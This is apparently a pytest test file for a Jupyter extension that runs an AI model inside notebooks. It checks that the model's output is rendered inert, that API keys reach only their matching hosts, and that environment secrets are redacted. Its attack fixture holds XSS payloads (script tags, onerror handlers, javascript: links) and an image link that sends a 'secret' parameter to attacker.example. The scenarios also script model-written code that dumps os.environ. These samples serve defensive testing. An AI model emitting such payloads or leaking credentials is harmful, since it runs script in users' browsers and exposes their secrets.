"""Model output is untrusted, and keys go only where they belong (SPEC §1, §3, §9), in real kernels."""

from __future__ import annotations

import json

import nbformat
import pytest
from markdown_it import MarkdownIt

from kimi_jupyter.testing import KimiServer, Scenario, ToolCallSpec, ScriptedTurn
from kimi_jupyter.testing.pytest_plugin import API_KEY

from conftest import output_text, run_notebook
from html_check import problems

ATTACK = """# Report

**bold** and a table:

| a | b |
|---|---|
| <img src=x onerror="alert(1)"> | 2 |

<script>alert('answer')</script> <svg onload=alert(1)> [click](javascript:alert(1))

$x^2$

![chart](https://attacker.example/p.png?d=secret) <img src="https://attacker.example/i.png">

```python
print("hi")
```
````
<iframe src="https://evil.example"></iframe>
"""
REASONING = "Thinking about <script>alert('reasoning')</script> and ``` fences <img src=x onerror=alert(2)>"
CODE_ARGS = json.dumps({"code": "print('<script>alert(3)</script>')\n```\n<img src=x onerror=alert(4)>"})


def attack_scenario() -> Scenario:
    return Scenario("attack", [
        ScriptedTurn(reasoning=REASONING, tool_calls=[ToolCallSpec("python", CODE_ARGS),
                                              ToolCallSpec("<img src=x onerror=alert(5)>", '{"a": "</code><script>"}')]),
        ScriptedTurn(reasoning=REASONING, content=ATTACK),
    ])


def live_html(markdown_source: str) -> str:
    """What a frontend that renders markdown with HTML passthrough (JupyterLab's marked) makes of it."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown_source)


# kimi-jupyter's own wrappers around escaped text (the reasoning <details>, the footer).
OWN = ("tag <details>", "tag <summary>", "tag <sub>", "attribute style= on <div>",
       "attribute class= on <details>", "class='kimi-reasoning' on <details>")


def check_outputs(outputs: list[dict]) -> None:
    from kimi_jupyter.views.live import WRAP_STYLE

    for out in outputs:
        data = out.get("data", {})
        if data == WRAP_STYLE:  # the live reasoning box's word-wrap rule: a constant of ours, never model text
            continue
        if "text/markdown" in data:
            assert [p for p in problems(live_html(data["text/markdown"])) if p not in OWN] == [], data["text/markdown"]
        if "text/html" in data:
            assert [p for p in problems(data["text/html"]) if p not in OWN] == [], data["text/html"]


def test_attack_text_is_never_live_in_saved_notebook_or_export(kimi_kernel_env, tmp_path):
    kimi_kernel_env.add_scenario(attack_scenario())
    export = tmp_path / "conv.ipynb"
    nb = run_notebook(["%load_ext kimi_jupyter", "%%kimi -y -o r\n[[scenario:attack]] go",
                       f"%kimi export {export}", "r"], tmp_path)
    outputs = [o for cell in nb.cells for o in cell.get("outputs", [])]
    check_outputs(outputs)
    text = output_text(nb.cells[1])
    assert "alert('answer')" in text  # shown, as text
    rendered = "".join(live_html(o["data"]["text/markdown"]) for o in outputs if "text/markdown" in o.get("data", {}))
    for html in ("<h1>Report</h1>", "<strong>bold</strong>", "<table>", '<code class="language-python">', "$x^2$"):
        assert html in rendered, html
    # A remote image is a link naming its host, never an <img> (checked by `problems` too).
    image_link = "[image: chart — attacker.example]</a>"
    assert image_link in rendered
    exported = nbformat.read(export, as_version=4)
    for cell in exported.cells:
        if cell.cell_type == "markdown":
            assert [p for p in problems(live_html(cell.source)) if p not in OWN] == [], cell.source
        check_outputs(cell.get("outputs", []))
    assert image_link in "".join(live_html(c.source) for c in exported.cells if c.cell_type == "markdown")
    code_cells = [c for c in exported.cells if c.cell_type == "code"]
    assert code_cells and code_cells[0].metadata["kimi_jupyter"]["model_written"] is True


@pytest.fixture
def two_servers(kimi_server):
    other = KimiServer(api_key="sk-other-server-key").start()
    try:
        yield kimi_server, other
    finally:
        other.stop()


def test_keys_reach_only_the_host_they_were_given_for(two_servers, tmp_path, monkeypatch):
    home, other = two_servers
    monkeypatch.delenv("MOONSHOT_BASE_URL", raising=False)
    monkeypatch.delenv("KIMI_MODEL", raising=False)
    monkeypatch.setenv("MOONSHOT_API_KEY", "sk-env-moonshot-key-000000")
    monkeypatch.setenv("KIMI_API_KEY", API_KEY)
    monkeypatch.setenv("KIMI_BASE_URL", home.base_url)
    nb = run_notebook(
        [
            "%load_ext kimi_jupyter",
            "%%kimi -n\nhello home",  # the env pair: KIMI_API_KEY → KIMI_BASE_URL
            f"%%kimi -n --base-url {other.base_url}\nhello other",  # a notebook author's server: no key
            # a config pair
            f"%config Kimi.api_key = 'sk-config-key-1111111111'\n%config Kimi.base_url = '{other.base_url}'",
            "%%kimi -n\nhello with config key",
            # a login key for another server, through the real command (getpass answered here)
            "import getpass\ngetpass.getpass = lambda prompt='': 'sk-other-server-key'\n"
            f"%config Kimi.api_key = None\n%kimi login --base-url {other.base_url}",
            "%%kimi -n\nhello with login key",
            f"%%kimi -n --base-url {home.base_url}\nback home",
            "%kimi config",
        ],
        tmp_path,
    )
    assert home.keys_seen and set(home.keys_seen) == {API_KEY}
    # `other` saw: nothing on the cell pointed at it (401), the config key, then the login key.
    assert "sk-env-moonshot-key-000000" not in other.keys_seen and API_KEY not in other.keys_seen
    assert "sk-config-key-1111111111" in other.keys_seen and "sk-other-server-key" in other.keys_seen
    refused = output_text(nb.cells[2])
    assert "401" in refused and "sent no key" in refused and "%kimi login --base-url" in refused
    assert "hello with login key" in output_text(nb.cells[6])
    assert "back home" in output_text(nb.cells[7])
    config = output_text(nb.cells[8])
    assert "%kimi login" in config and f"127.0.0.1:{other.port}" in config and "api.moonshot.ai" in config
    shown = json.dumps([cell.get("outputs", []) for cell in nb.cells])  # the config cell's source has its key
    for key in ("sk-env-moonshot-key-000000", "sk-config-key-1111111111", "sk-other-server-key", API_KEY):
        assert key not in shown


def test_model_code_printing_environ_sends_no_key(kimi_kernel_env, tmp_path):
    code = json.dumps({"code": "import os\nprint(dict(os.environ))\nprint(os.environ['KIMI_API_KEY'])"})
    kimi_kernel_env.add_scenario(Scenario("env_dump", [ScriptedTurn(tool_calls=[ToolCallSpec("python", code)]),
                                                       ScriptedTurn(content="I looked.")]))
    nb = run_notebook(["%load_ext kimi_jupyter",
                       "%config Kimi.secrets = ['db-password-42']\nimport os\nos.environ['DB_PW'] = 'db-password-42'",
                       "%%kimi -y\n[[scenario:env_dump]] show env"], tmp_path)
    tool_messages = [m for r in kimi_kernel_env.requests for m in r["messages"] if m["role"] == "tool"]
    assert tool_messages and "KIMI_BASE_URL" in tool_messages[-1]["content"]  # the dump did reach the model
    for m in tool_messages:
        assert API_KEY not in m["content"] and "db-password-42" not in m["content"]
    assert "[redacted]" in tool_messages[-1]["content"]
    assert API_KEY not in output_text(nb.cells[2]) and "db-password-42" not in output_text(nb.cells[2])

